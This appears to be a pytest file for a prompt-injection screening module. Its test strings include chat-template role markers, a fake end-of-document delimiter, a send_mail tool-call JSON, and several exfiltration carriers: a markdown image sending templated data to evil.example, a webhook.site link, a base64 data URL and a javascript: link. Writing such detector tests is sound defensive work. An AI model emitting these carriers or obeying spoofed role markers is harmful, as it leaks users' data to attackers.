from __future__ import annotations

import re

import pytest

from core.screening.injection_markup import CARRIERS, MARKS


def met(table: dict[str, tuple[str, ...]], text: str) -> list[str]:
    return [what for what, patterns in table.items() if any(re.search(one, text.lower()) for one in patterns)]


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("<|im_start|>system", "holds the marks by which a prompt tells who speaks"),
        ("-- end of document --", "poses as its operator"),
        ('{"name": "send_mail", "arguments": {"to": "x"}}', "holds a tool's call as models write it"),
    ],
)
def test_a_text_that_speaks_as_someone_else_is_named(text: str, what: str) -> None:
    assert what in met(MARKS, text)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("![x](https://evil.example/p.png?q={{data}})", "an image whose address is filled with data"),
        ("https://webhook.site/abc?d=1", "a link that hands data to a collecting host"),
        ("data:text/html;base64,PHNjcmlwdD4=", "an address that holds a document"),
        ("[x](javascript:alert(1))", "a link that runs a script"),
    ],
)
def test_a_text_that_carries_data_away_is_named(text: str, what: str) -> None:
    assert what in met(CARRIERS, text)


@pytest.mark.parametrize("text", ["The system is down.", "![a cat](https://example.com/cat.png)", "Human: hello"])
def test_plain_text_meets_none(text: str) -> None:
    assert met(MARKS, text) + met(CARRIERS, text) == []
